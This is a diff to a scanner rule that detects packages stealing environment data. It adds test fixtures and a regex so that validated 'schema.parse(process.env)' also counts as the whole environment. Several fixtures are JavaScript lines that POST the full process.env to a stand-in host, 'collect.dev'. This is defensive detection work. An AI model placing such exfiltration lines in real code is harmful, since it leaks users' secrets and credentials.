@@ -102,6 +102,18 @@ export const packageStealsData = defineRule({
       {
         files: {
           'index.js':
+            "const { z } = require('zod');\nconst env = z.object({}).passthrough().parse(process.env);\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify(env) });\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
+            "const schema = require('./schema');\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify(schema.parse(process.env)) });\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
             "const env = process.env;\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify({ env, a: 1 }) });\n",
         },
       },
@@ -139,6 +151,12 @@ export const packageStealsData = defineRule({
       },
       {
         files: { 'a.sh': 'curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user\nenv | sort\n' },
+      },
+      {
+        files: {
+          'index.js':
+            "const { z } = require('zod');\nconst schema = z.object({ GITHUB_TOKEN: z.string() });\nconst env = schema.parse(process.env);\nfetch('https://api.github.com/repos/a/b/contributors', { headers: { Authorization: `Bearer ${env.GITHUB_TOKEN}` } });\n",
+        },
       },
       {
         files: {
@@ -186,6 +204,10 @@ function writtenTo(script: ScriptFacts): ReadonlyMap<number, readonly number[]> 
   return written;
 }
 
+/** `schema.parse(process.env)`, as programs look at their settings when they start. */
+const CHECKED = /^[\w$.]{1,80}\.(?:parse|safeParse|validate|validateSync)\(process\.env\)$/;
+const isEnvironment = (text: string): boolean => text === 'process.env' || CHECKED.test(text);
+
 /** Whether a request carries the whole environment: `process.env` itself, not one variable of it. */
 function sendsEnvironment(script: ScriptFacts, sent: readonly number[]): boolean {
   const whole = /\.\.\.process\.env\b(?!\s*[.[])|[:({,[]\s*process\.env\s*[,})\]]/;
@@ -193,10 +215,10 @@ function sendsEnvironment(script: ScriptFacts, sent: readonly number[]): boolean
   const texts: string[] = [];
   for (const value of sent.flatMap((one) => [one, ...backwardSlice(script, one)]).slice(0, 400)) {
     const text = show(script, value);
-    if (whole.test(text)) return true;
+    if (whole.test(text) && !CHECKED.test(text)) return true;
     texts.push(text);
     // A variable that is the environment, unless only a part of it is read.
-    if (/^[\w$]{1,60}$/.test(text) && show(script, resolve(script, value)) === 'process.env') names.add(text);
+    if (/^[\w$]{1,60}$/.test(text) && isEnvironment(show(script, resolve(script, value)))) names.add(text);
   }
   return [...names].some((name) => !texts.some((text) => text.startsWith(`${name}.`) || text.startsWith(`${name}[`)));
 }
